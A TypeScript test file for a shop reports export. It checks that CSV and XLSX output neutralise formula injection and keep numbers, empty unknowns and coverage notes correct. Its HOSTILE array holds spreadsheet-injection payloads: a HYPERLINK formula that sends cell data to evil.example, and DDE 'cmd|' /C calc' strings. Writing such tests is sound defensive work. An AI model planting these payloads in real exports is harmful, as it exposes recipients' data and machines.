/**
 * The reports export against formula injection: hostile product titles and a hostile province
 * reach the CSV neutralised (prefixed with ', quoted) and the XLSX as typed string cells, while
 * every number stays a number, negative ones included.
 */
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { createTranslator } from "next-intl";
import { afterAll, describe, expect, inject, it } from "vitest";
import { db } from "@/lib/db";
import reportsEn from "@/lib/i18n/messages/reports/en.json";
import reportsZh from "@/lib/i18n/messages/reports/zh-CN.json";
import { genTrades, newTestShop, testViewer, writeTrades } from "@/lib/orders/testing";
import { closeSyncSql } from "@/lib/sync/sql";
import { presetRange } from "@/lib/time";
import { parseCsv } from "@/test/csv";
import { tableToCsv, tableToXlsx } from "./export";
import { kpiReport, productsReport, provincesReport, trendReport } from "./queries";
import { kpiTable, productsTable, provincesTable, trendTable, type ReportTable, type Translate } from "./tables";
import { recordBackfill } from "./testing";

afterAll(async () => {
  await closeSyncSql();
  await db().$disconnect();
});

const NOW = new Date(Date.UTC(2026, 10, 28, 4, 0, 0));
const HOSTILE = [`=HYPERLINK("http://evil.example/?d="&A3,"点我")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`];
const TRIGGER = /^[=+\-@\t\r]/;
const t: Translate = (key, values) => (values ? `${key} ${JSON.stringify(values)}` : key);

describe(`reports export on ${inject("databaseProvider")}`, () => {
  it("neutralises hostile titles and provinces in CSV, keeps numbers as they are, writes XLSX strings (never formulas)", async () => {
    const shop = await newTestShop("报表注入店");
    const trades = genTrades({ n: 40, seed: 61, end: NOW, days: 5, tidPrefix: "36" });
    trades.forEach((tr, i) => {
      tr.status = "TRADE_FINISHED";
      tr.payTime = new Date(tr.created.getTime() + 60_000);
      tr.receiverState = i % 2 ? `=1+2` : tr.receiverState;
      tr.orders = tr.orders.map((o, k) => ({ ...o, numIid: String(900_000 + ((i + k) % HOSTILE.length)), title: HOSTILE[(i + k) % HOSTILE.length]!, status: "TRADE_FINISHED", refundStatus: "NO_REFUND" }));
    });
    await writeTrades(shop, trades);
    await recordBackfill(shop, { from: "2026-09-01", t0: NOW });
    const viewer = testViewer(shop, "OWNER");
    const query = { range: presetRange("last7", NOW), granularity: "day" as const, shop: null };
    const products = productsTable(await productsReport(viewer, query), "gmv", t);
    expect(products.rows.map((r) => r[1]!.text).sort()).toEqual([...HOSTILE].sort());
    const provinces = provincesTable(await provincesReport(viewer, query), t);
    // The KPI table's changes are figures formatted here (+¥…, -…%): numbers to the reader. A hand-made row adds a negative amount.
    const kpis = kpiTable(await kpiReport(viewer, query), t);
    const negative: ReportTable = { ...products, rows: [...products.rows, [{ text: "-1", value: -1, csv: "-1" }, { text: HOSTILE[0]! }, { text: "-" }, { text: "-¥12.50", value: -12.5, csv: "-12.50" }, { text: "-3", value: -3, csv: "-3" }, { text: "0", value: 0, csv: "0" }]] };

    for (const table of [negative, provinces, kpis]) {
      const raw = tableToCsv(table).subarray(3).toString("utf8");
      const [header, ...body] = parseCsv(raw.replace(/\r\n$/, ""));
      expect(header).toEqual(table.columns);
      body.forEach((row, r) =>
        row.forEach((cell, c) => {
          const src = table.rows[r]![c]!;
          // Numbers as plain numbers, unknowns empty; text that would start a formula gets the quote.
          const want = src.unknown ? "" : src.csv !== undefined ? src.csv : TRIGGER.test(src.text) ? `'${src.text}` : src.text;
          expect(cell, `${table.name} ${r}:${c}`).toBe(want);
        }),
      );
      for (const h of HOSTILE) if (raw.includes(h)) expect(raw).toContain(`"'${h.replace(/"/g, '""')}"`);
    }
    const csv = tableToCsv(negative).subarray(3).toString("utf8");
    expect(csv).toContain(`,-12.50,-3,0`);
    expect(parseCsv(tableToCsv(provinces).subarray(3).toString("utf8")).some((r) => r[1] === "'=1+2")).toBe(true);
    // The KPI table's signed changes (+¥…, -…%) are numbers in the file.
    expect(kpis.rows.some((r) => r.some((c) => /^[+-]/.test(c.text) && c.csv !== undefined && /^-?\d+(\.\d+)?$/.test(c.csv)))).toBe(true);

    const file = await tableToXlsx(negative);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0]!;
    const titles: unknown[] = [];
    sheet.eachRow((row, n) => {
      row.eachCell((c) => expect(c.type, `${n}:${c.address}`).not.toBe(ExcelJS.ValueType.Formula));
      if (n > 2) {
        expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
        titles.push(row.getCell(2).value);
      }
    });
    expect(titles.slice(0, HOSTILE.length).sort()).toEqual([...HOSTILE].sort());
    const last = sheet.getRow(sheet.rowCount);
    expect([last.getCell(1).value, last.getCell(4).value, last.getCell(5).value]).toEqual([-1, -12.5, -3]);
    const zip = await JSZip.loadAsync(file);
    for (const f of zip.file(/xl\/worksheets\/sheet\d+\.xml/)) expect(await f.async("string")).not.toMatch(/<f[ >]/);
  });
});

describe(`reports export figures on ${inject("databaseProvider")}`, () => {
  const translator = (locale: "zh-CN" | "en"): Translate => {
    const tr = createTranslator({ locale, messages: locale === "zh-CN" ? reportsZh : reportsEn, namespace: "reports" }) as unknown as (key: string, values?: Record<string, string | number>) => string;
    return (key, values) => tr(key, values);
  };
  const csvOf = (table: ReportTable) => parseCsv(tableToCsv(table).subarray(3).toString("utf8").replace(/\r\n$/, ""));
  const MONEY = /^-?\d+\.\d{2}$/;

  it("writes amounts as yuan numbers with the currency in the header, unknowns as empty cells, and the coverage note", async () => {
    const shop = await newTestShop("报表数字店");
    const trades = genTrades({ n: 60, seed: 62, end: NOW, days: 6, tidPrefix: "37" });
    trades.forEach((tr) => {
      tr.status = "TRADE_FINISHED";
      tr.payTime = new Date(tr.created.getTime() + 60_000);
    });
    await writeTrades(shop, trades);
    // The sync reached back to 2026-11-20 only: by pay time complete from 2026-11-23, so 近7天 (11-22 … 11-28) is partly covered and its previous period not at all.
    await recordBackfill(shop, { from: "2026-11-20", t0: NOW });
    const viewer = testViewer(shop, "OWNER");
    const query = { range: presetRange("last7", NOW), granularity: "day" as const, shop: null, now: NOW };
    const [kpi, trend] = [await kpiReport(viewer, query), await trendReport(viewer, query)];
    for (const [locale, yuan, note, noBase] of [
      ["zh-CN", "支付金额（元）", "本期部分早于同步起点 2026-11-23：2026-11-23 之前的数字不完整（偏低）。", "无可比数据（早于同步起点 2026-11-23）"],
      ["en", "GMV (CNY)", "Part of this period is before the sync start (2026-11-23): figures before 2026-11-23 are incomplete (too low).", "No comparable data (before the sync start, 2026-11-23)"],
    ] as const) {
      const t = translator(locale);
      const kpis = kpiTable(kpi, t);
      const rows = csvOf(kpis);
      const gmv = rows.find((r) => r[0] === (locale === "zh-CN" ? "支付金额（元）" : "GMV (CNY)"))!;
      expect(gmv[1]).toMatch(MONEY);
      expect(BigInt(gmv[1]!.replace(".", ""))).toBe(kpi.current.gmvFen);
      // Previous period and last year: not covered, so empty — never 0 — in the file, and said on the page.
      expect(gmv.slice(2)).toEqual(["", "", "", "", "", ""]);
      expect(kpis.rows[0]![2]!.text).toBe(noBase);
      // The note follows the table after an empty row.
      expect(rows.slice(-2)).toEqual([[""], [note]]);

      const trendRows = csvOf(trendTable(trend, t));
      expect(trendRows[0]![1]).toBe(yuan);
      const body = trendRows.slice(1, 8);
      expect(body).toHaveLength(7);
      expect(body.slice(1).every((r) => MONEY.test(r[1]!) && /^\d+$/.test(r[2]!))).toBe(true);
      expect(body.every((r) => r[4] === "" && r[5] === "")).toBe(true);
      // 11-22 is before the pay-time coverage: its figures are unknown, empty in the file.
      expect(trend.buckets[0]!.curCoverage).toBe("none");
      expect(body[0]!.slice(0, 3)).toEqual(["2026-11-22", "", ""]);
      const sum = body.slice(1).reduce((s, r) => s + BigInt(r[1]!.replace(".", "")), 0n);
      expect(sum).toBe(trend.buckets.slice(1).reduce((s, b) => s + b.cur.gmvFen, 0n));

      const xlsx = new ExcelJS.Workbook();
      await xlsx.xlsx.load((await tableToXlsx(kpiTable(kpi, t))) as unknown as ArrayBuffer);
      const row = xlsx.worksheets[0]!.getRow(3);
      expect(row.getCell(2).value).toBe(Number(gmv[1]));
      expect(row.getCell(3).value).toBeNull();
    }
  });
});
